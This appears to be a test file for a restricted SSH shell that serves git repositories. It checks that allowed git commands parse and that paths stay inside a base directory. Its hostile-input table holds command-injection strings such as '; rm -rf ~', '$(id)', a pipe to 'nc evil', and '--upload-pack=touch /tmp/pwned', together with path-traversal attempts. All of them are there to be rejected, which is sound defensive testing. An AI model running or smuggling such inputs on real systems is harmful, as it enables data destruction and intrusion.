// The restricted shell's parser and path rules, table-driven; the ssh end-to-end runs are in shell-ssh.test.ts.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { git, tempDir } from '../support/git.js';
import { parseShellCommand, resolveAllowedPath, type ShellCommand } from '../../src/server/shell.js';
import { daemonArgv, exitWithin, start, stop } from './helpers.js';

const allowed: [string, ShellCommand][] = [
  [`git-upload-pack '/srv/r.git'`, { kind: 'git', service: 'upload-pack', path: '/srv/r.git' }],
  [`git-receive-pack '/srv/r.git'`, { kind: 'git', service: 'receive-pack', path: '/srv/r.git' }],
  [`git-upload-archive '/srv/r.git'`, { kind: 'git', service: 'upload-archive', path: '/srv/r.git' }],
  [`git upload-pack '/srv/r.git'`, { kind: 'git', service: 'upload-pack', path: '/srv/r.git' }],
  [`git receive-pack '~/r.git'`, { kind: 'git', service: 'receive-pack', path: '~/r.git' }],
  [`git-upload-pack '/~/r.git'`, { kind: 'git', service: 'upload-pack', path: '/~/r.git' }],
  [`git-upload-pack 'it'\\''s here'`, { kind: 'git', service: 'upload-pack', path: `it's here` }],
  [`git-upload-pack 'bang'\\!'.git'`, { kind: 'git', service: 'upload-pack', path: 'bang!.git' }],
  [`git-upload-pack 'with space; and $(dollar)'`, { kind: 'git', service: 'upload-pack', path: 'with space; and $(dollar)' }],
  [`notifychanges '/srv/r.git'`, { kind: 'notifychanges', path: '/srv/r.git' }],
  [`notifychanges /srv/r.git`, { kind: 'notifychanges', path: '/srv/r.git' }],
  [`git-remote-daemon notifychanges '~user/r.git'`, { kind: 'notifychanges', path: '~user/r.git' }],
  [`git-remote-daemon 'notifychanges' 'r.git'`, { kind: 'notifychanges', path: 'r.git' }],
];

test('allowed commands parse to one command and one path', () => {
  for (const [line, command] of allowed) assert.deepEqual(parseShellCommand(line), { ok: true, command }, line);
});

const hostile: [string | undefined, RegExp][] = [
  [undefined, /interactive login/],
  ['', /interactive login/],
  ['   ', /interactive login/],
  ['sh', /not allowed/],
  ['bash -i', /not allowed/],
  ['ls /', /not allowed/],
  [`git-upload-pack '/r.git'; rm -rf ~`, /metacharacter ";"|after a quoted word/],
  [`git-upload-pack '/r.git' ; rm -rf ~`, /metacharacter ";"/],
  [`git-upload-pack /r.git;rm -rf ~`, /metacharacter ";"/],
  [`git-upload-pack '/r.git' && id`, /metacharacter "&"/],
  [`git-upload-pack '/r.git' | nc evil 1`, /metacharacter "\|"/],
  [`git-upload-pack $(id)`, /metacharacter "\$"/],
  ['git-upload-pack `id`', /metacharacter "`"/],
  [`git-upload-pack "/r.git"`, /metacharacter "\\""/],
  [`git-upload-pack /r.git > /tmp/x`, /metacharacter ">"/],
  [`git-upload-pack '/r.git'\nrm -rf ~`, /control character 0x0a/],
  [`git-upload-pack '/r.git'\rid`, /control character 0x0d/],
  [`git-upload-pack '/r.git\0x'`, /control character 0x00/],
  [`git-upload-pack\t'/r.git'`, /control character 0x09/],
  [`git-upload-pack '--upload-pack=touch /tmp/pwned'`, /options are not allowed/],
  [`git-upload-pack --upload-pack=id`, /options are not allowed/],
  [`git-receive-pack '-c' '/r.git'`, /exactly one argument/],
  [`git-upload-pack -c`, /options are not allowed/],
  [`git upload-pack '--strict' '/r.git'`, /exactly one argument/],
  [`notifychanges '-h'`, /options are not allowed/],
  [`git-upload-pack '/a.git' '/b.git'`, /exactly one argument/],
  [`git-upload-pack`, /needs a repository path/],
  [`notifychanges`, /needs a repository path/],
  [`git-upload-pack ''`, /empty repository path/],
  [`git-upload-pack  '/r.git'`, /stray space/],
  [`git-upload-pack '/r.git' `, /stray space/],
  [`git-upload-pack '/r.git`, /unterminated quote/],
  [`git-upload-pack '/r'.git`, /after a quoted word/],
  [`git-upload-pack '/r'\\''`, /unterminated quote/],
  [`git config core.sshCommand id`, /not allowed/],
  [`git -c core.sshCommand=id upload-pack '/r.git'`, /not allowed/],
  [`git-shell -c 'git-upload-pack /r.git'`, /not allowed/],
  [`git-annex-shell notifychanges '/r.git'`, /not allowed/],
  [`/usr/bin/git-upload-pack '/r.git'`, /not allowed/],
  [`git-http-backend '/r.git'`, /not allowed/],
  [`git-upload-pack ~/r.git/*`, /metacharacter "\*"/],
  [`git-upload-pack {a,b}`, /metacharacter "\{"/],
  [`git-upload-pack \\'/r.git\\'`, /metacharacter "\\\\"/],
  [`env GIT_DIR=/ git-upload-pack '/r.git'`, /not allowed/],
  [`git-remote-daemon shell`, /not allowed/],
  [`git-remote-daemon notifychanges '/a' && id`, /metacharacter "&"/],
];

test(`refuses ${hostile.length} hostile commands, each with a reason`, () => {
  assert.ok(hostile.length >= 20);
  for (const [line, reason] of hostile) {
    const result = parseShellCommand(line);
    assert.equal(result.ok, false, `accepted: ${JSON.stringify(line)}`);
    if (!result.ok) {
      assert.match(result.error, reason, JSON.stringify(line));
      assert.doesNotMatch(result.error, /[\n\r\0]/, 'the reason is one line');
    }
  }
});

test('paths: repositories only, and inside the base directory once .. and symlinks are resolved', async (t) => {
  const dir = tempDir();
  t.after(() => dir.cleanup());
  const base = join(dir.path, 'base');
  const outside = join(dir.path, 'outside');
  mkdirSync(base);
  mkdirSync(outside);
  git(base, 'init', '-q', '--bare', 'ok.git');
  git(base, 'init', '-q', 'worktree');
  git(outside, 'init', '-q', '--bare', 'secret.git');
  symlinkSync(join(outside, 'secret.git'), join(base, 'link.git'));
  symlinkSync(outside, join(base, 'outdir'));
  mkdirSync(join(base, 'plain'));

  assert.equal(await resolveAllowedPath('ok.git', base), join(base, 'ok.git'));
  assert.equal(await resolveAllowedPath('ok', base), join(base, 'ok.git'));
  assert.equal(await resolveAllowedPath(join(base, 'ok.git'), base), join(base, 'ok.git'));
  assert.equal(await resolveAllowedPath('worktree', base), join(base, 'worktree'));
  assert.equal(await resolveAllowedPath(join(outside, 'secret.git')), join(outside, 'secret.git'), 'no base: anywhere');

  // Every URL form git sends means a place in the base (ssh://host/r.git sends "/r.git").
  assert.equal(await resolveAllowedPath('/ok.git', base), join(base, 'ok.git'));
  assert.equal(await resolveAllowedPath('~/ok.git', base), join(base, 'ok.git'));
  assert.equal(await resolveAllowedPath('/~/ok', base), join(base, 'ok.git'));
  assert.equal(await resolveAllowedPath('/worktree/../ok.git', base), join(base, 'ok.git'));

  // Refused, all with the same words, whatever is or is not there.
  const refused = [
    join(outside, 'secret.git'),
    join(outside, 'missing.git'),
    '../outside/secret.git',
    '/../outside/secret.git',
    `${base}/../outside/secret.git`,
    'link.git',
    'outdir/secret.git',
    'plain',
    'missing.git',
    '/',
    '~root/x.git',
    '~nobody-such-user/x.git',
    '/~root',
  ];
  for (const path of refused) {
    await assert.rejects(resolveAllowedPath(path, base), { message: `repository not found: ${JSON.stringify(path)}` }, path);
  }
  await assert.rejects(resolveAllowedPath('ok.git', join(dir.path, 'nope')), /base directory does not exist/);
});

test('the shell process refuses with one line on stderr and exit code 1', async (t) => {
  const dir = tempDir();
  t.after(() => dir.cleanup());
  for (const command of [undefined, `git-upload-pack '/r.git'; id`, `git-upload-pack '${dir.path}'`, `git-upload-pack '-x'`]) {
    const env: NodeJS.ProcessEnv = { ...process.env };
    if (command === undefined) delete env.SSH_ORIGINAL_COMMAND;
    else env.SSH_ORIGINAL_COMMAND = command;
    const run = start(daemonArgv('shell'), { env });
    t.after(() => stop(run));
    assert.equal(await exitWithin(run, 5000), 1, String(command));
    assert.match(run.stderr(), /^git-remote-daemon shell: [^\n]+\n$/, String(command));
    assert.deepEqual(run.stdout.pending(), []);
  }
});
